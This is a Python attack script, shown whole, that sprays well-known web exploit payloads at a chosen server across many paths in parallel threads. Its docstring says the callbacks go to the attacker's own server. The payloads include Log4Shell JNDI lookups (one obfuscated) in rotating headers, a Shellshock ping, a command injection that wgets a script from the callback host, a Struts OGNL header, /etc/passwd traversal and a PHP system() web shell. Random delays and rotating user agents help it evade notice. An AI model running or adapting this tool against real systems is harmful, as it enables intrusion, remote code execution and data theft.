"""Sends the requests of well-known web exploits over many paths. What it names to call back to is the attacker's own server."""
import http.client
import random
import sys
import time
from concurrent.futures import ThreadPoolExecutor

AGENTS = ["curl/7.88.1", "Mozilla/5.0 (X11; Linux x86_64)", "python-requests/2.28", "Go-http-client/1.1", "zgrab/0.x"]


def jndi(chance: random.Random, callback: str) -> tuple[str, dict[str, str], str]:
    word = chance.choice(["${jndi:ldap://%s/a}", "${${lower:j}ndi:ldap://%s:1389/o}", "${jndi:dns://%s/x}", "${jndi:rmi://%s/obj}"]) % callback
    names = ["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For", "Cookie", "Authorization"]
    return "", {name: word for name in chance.sample(names, chance.randint(1, 4))}, ""


def shell(chance: random.Random, callback: str) -> tuple[str, dict[str, str], str]:
    return "", {"User-Agent": "() { :; }; /bin/ping -c 1 " + callback}, ""


def mixed(chance: random.Random, callback: str) -> tuple[str, dict[str, str], str]:
    kind = chance.randrange(4)
    if kind == 0:
        return "?cmd=id;wget+http://" + callback + "/x.sh", {}, ""
    if kind == 1:
        return "", {"Content-Type": "%{(#_='multipart/form-data').(#cmd='id')}"}, ""
    if kind == 2:
        return "?page=../../../../etc/passwd", {}, ""
    return "", {"Content-Type": "application/x-www-form-urlencoded"}, "<?php system($_GET['c']); ?>" * chance.randint(1, 20)


def main() -> None:
    server, method, callback, list_file, count, width, low_ms, high_ms, seed = sys.argv[1:10]
    chance = random.Random(int(seed))
    paths = open(list_file, encoding="utf8").read().split()
    make = {"jndi": jndi, "shell": shell, "mixed": mixed}[method]
    answers: dict[int, int] = {}

    def probe(_: int) -> None:
        time.sleep(chance.uniform(int(low_ms), int(high_ms)) / 1000)
        query, headers, body = make(chance, callback)
        connection = http.client.HTTPConnection(server, 80, timeout=5)
        try:
            headers.setdefault("User-Agent", chance.choice(AGENTS))
            connection.request("POST" if body else "GET", "/" + chance.choice(paths) + query, body or None, headers)
            status = connection.getresponse().status
        except OSError:
            status = 0
        finally:
            connection.close()
        answers[status] = answers.get(status, 0) + 1

    with ThreadPoolExecutor(int(width)) as pool:
        list(pool.map(probe, range(int(count))))
    print("probed", count, answers)


main()
